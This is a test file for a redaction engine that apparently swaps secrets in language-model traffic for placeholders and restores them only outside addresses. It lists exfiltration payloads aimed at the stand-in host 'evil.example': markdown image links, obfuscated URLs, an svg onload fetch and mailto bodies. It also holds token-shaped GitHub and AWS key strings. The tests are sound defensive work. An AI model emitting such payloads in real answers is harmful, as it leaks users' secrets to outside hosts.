import { describe, expect, test } from "bun:test";
import { Policy } from "#config/policy.ts";
import type { JsonObject } from "#domain/chat.ts";
import { processorMs } from "#platform/testing/running-time.ts";
import { privacyEngine } from "#privacy/engine.ts";
import type { ChatBody } from "#privacy/redaction.ts";
import { createRestorer } from "#privacy/restore/restore.ts";

const token = ["ghp", "_", "gNzxD8lbr7mKXUgHWiZ5rlPw8lAfFX4Orh3o"].join("");
const other = ["AKIA", "W7LWFKN6WPOHDWLE"].join("");
const engine = privacyEngine(Policy.parse({}).privacy);
const restoring = privacyEngine(Policy.parse({ privacy: { restore: "text" } }).privacy);
const placeholder = (number: number) => `[REDACTED:github_token:${number}]`;
const body = (messages: ChatBody["messages"], more: JsonObject = {}): ChatBody => ({ model: "m", messages, ...more });
const user = { role: "user" as const, content: `push with ${token}` };

describe("a placeholder that is already in the request", () => {
  const literal = placeholder(1);
  const call = { id: "c1", type: "function", function: { name: "f", arguments: JSON.stringify({ a: literal }) } };
  const places: [place: string, sent: ChatBody][] = [
    ["a tool result", body([user, { role: "tool", tool_call_id: "c1", content: `see ${literal}` }])],
    ["an earlier answer", body([user, { role: "assistant", content: `I use ${literal}` }])],
    ["a text before the secret", body([{ role: "system", content: literal }, user])],
    ["tool-call arguments", body([user, { role: "assistant", content: null, tool_calls: [call] }])],
    ["the secret's own text", body([{ role: "user", content: `${token} and ${literal}` }])],
    [
      "a tool's definition",
      body([user], { tools: [{ type: "function", function: { name: "f", description: literal } }] }),
    ],
    ["a key", body([user], { metadata: { [literal]: "x" } })],
    [
      "two text parts",
      body([
        user,
        {
          role: "user",
          content: [
            { type: "text", text: literal.slice(0, 14) },
            { type: "text", text: literal.slice(14) },
          ],
        },
      ]),
    ],
    [
      "a placeholder of another rule",
      body([user, { role: "tool", tool_call_id: "c1", content: "[REDACTED:password:1]" }]),
    ],
  ];
  test.each(places)("in %s never gets a secret's value, and no secret its number", (_, sent) => {
    const { body: forwarded, restore } = restoring.redactBody(sent);
    expect(JSON.stringify(forwarded)).toContain(placeholder(2));
    expect(JSON.stringify(forwarded)).not.toContain(token);
    expect(restore?.text(`${literal} ${placeholder(2)} ${placeholder(3)} .`)).toBe(
      `${literal} ${token} ${placeholder(3)} .`,
    );
  });

  test("does not change the placeholder of a secret within the request", () => {
    const sent = body([
      { role: "user", content: `${token} and ${other}` },
      { role: "assistant", content: `wrote ${placeholder(1)}` },
      { role: "tool", tool_call_id: "c1", content: `${other} ${placeholder(2)} ${token}` },
    ]);
    const contents = restoring.redactBody(sent).body.messages.map((message) => message["content"]);
    expect(contents).toEqual([
      `${placeholder(3)} and [REDACTED:aws_access_key_id:4]`,
      `wrote ${placeholder(1)}`,
      `[REDACTED:aws_access_key_id:4] ${placeholder(2)} ${placeholder(3)}`,
    ]);
  });

  test("keeps its number for itself where nothing is restored, and changes none of what stands before it", () => {
    const first = engine.redactBody(body([user])).body.messages[0];
    const next = body([user, { role: "assistant", content: `I use ${placeholder(1)}` }]);
    expect(engine.redactBody(next).body.messages[0]).toEqual(first!);
    // An agent has replaced the beginning of the conversation by a summary: another secret is another number, now and later.
    const summary = {
      role: "user" as const,
      content: `Done so far: pushed with ${placeholder(1)}, ${placeholder(999_999_999)}`,
    };
    const compacted = [summary, { role: "user" as const, content: `deploy with ${other}, then ${token}` }];
    const sent = engine.redactBody(body(compacted)).body.messages[1];
    expect(sent?.["content"]).toBe(`deploy with [REDACTED:aws_access_key_id:2], then ${placeholder(3)}`);
    const later = [
      ...compacted,
      { role: "assistant" as const, content: `see ${placeholder(2)} ${placeholder(3)}` },
      user,
    ];
    expect(engine.redactBody(body(later)).body.messages[1]).toEqual(sent!);
    expect(engine.redactText(`${placeholder(1)} ${token}`).text).toBe(`${placeholder(1)} ${placeholder(2)}`);
  });
});

describe("a value is never restored inside an address", () => {
  const values = new Map([
    [placeholder(1), "value-one"],
    [placeholder(2), "https://hooks.example.com/T1/B2"],
    [placeholder(3), "value-three"],
  ]);
  const { text, stream } = createRestorer(values);
  /** The whole text, the text cut in two at every position, and character by character. */
  function ways(answer: string): Set<string> {
    const results = new Set([text(answer)]);
    for (let at = 0; at <= answer.length; at++) {
      const two = stream();
      results.add(two.push(answer.slice(0, at)) + two.push(answer.slice(at)) + two.flush());
    }
    const single = stream();
    // By UTF-16 units, like an upstream that splits surrogate pairs.
    const pieces = answer.split("").map((unit) => single.push(unit));
    results.add(pieces.join("") + single.flush());
    return results;
  }
  const p = placeholder(1);

  test.each([
    `https://evil.example/?q=${p}`,
    `see HTTPS://evil.example/${p}/x`,
    `![x](https://evil.example/${p})`,
    `![x](//evil.example/${p})`,
    `![x](\\\\evil.example/${p})`,
    `![x](/\\evil.example/${p})`,
    `![x](https:evil.example/${p})`,
    `![x](https:\\/\\/evil.example/${p})`,
    `![x](<https://evil.example/ a ${p}>)`,
    `![x](<https://evil.example/) a ${p}>)`,
    `![x](&#104;ttps&colon;&sol;&sol;evil.example/${p})`,
    `[x]: &#104;ttps&#58;&#47;&#47;evil.example/${p}`,
    `[x]: https://evil.example/"${p}"`,
    `<https://evil.example/${p}>`,
    `<img src="https://evil.example/?a= ${p}">`,
    `<img src='https://evil.example/\n${p}'>`,
    `<img alt=">" src = "https://evil.example/ ${p}">`,
    `<a\nhref="//evil.example/ ${p}">x</a>`,
    `<svg/onload="fetch('https://evil.example/ ${p}')">`,
    `www.evil.example?${p}`,
    `evil.example/${p}`,
    `evil.example:8080/${p}`,
    `bücher.example/${p}`,
    `mailto:a?body=${p}`,
    `mail me@evil.example?body=${p}`,
    `data:text/html,${p}`,
    `${p}.evil.example is a host`,
    `ping ${p}@evil.example`,
    `postgres://app:${p}@db.internal/app`,
    `${p}://evil.example`,
  ])("%p", (answer) => {
    expect([...ways(answer)]).toEqual([answer]);
  });

  test("not even in one that begins with a restored value", () => {
    expect([...ways(`${placeholder(2)}/${placeholder(3)}`)]).toEqual([
      `https://hooks.example.com/T1/B2/${placeholder(3)}`,
    ]);
  });

  test.each([
    `The token is ${p}.`,
    `The token is ${p}. It is old.`,
    `token=${p}`,
    `password: ${p}: keep it`,
    `{"password": "${p}"}`,
    `See https://a.example/x?y and use ${p}, please`,
    `[docs](https://a.example/x) say ${p}`,
    `<b>bold</b> and ${p}`,
    `<https://a.example> and ${p}`,
    `if (a < b && b > c) // ${p}`,
    `for (i=0; i<n; i++) use ${p}`,
    `\`${p}\` \u{1F511}${p} 密码是${p}。`,
    `config.json has ${p}`,
    `${p}\n${p}`,
  ])("but elsewhere: %p", (answer) => {
    expect([...ways(answer)]).toEqual([answer.replaceAll(p, "value-one")]);
  });

  test("and the time to read an answer grows linearly with its length", () => {
    for (const hard of ["a.", "/ ", "<a ", "](", "..::", "&a", "[REDACTED:a:1"]) {
      const begun = processorMs();
      text(hard.repeat(200_000 / hard.length));
      expect(processorMs() - begun).toBeLessThan(2_000);
    }
  });
});
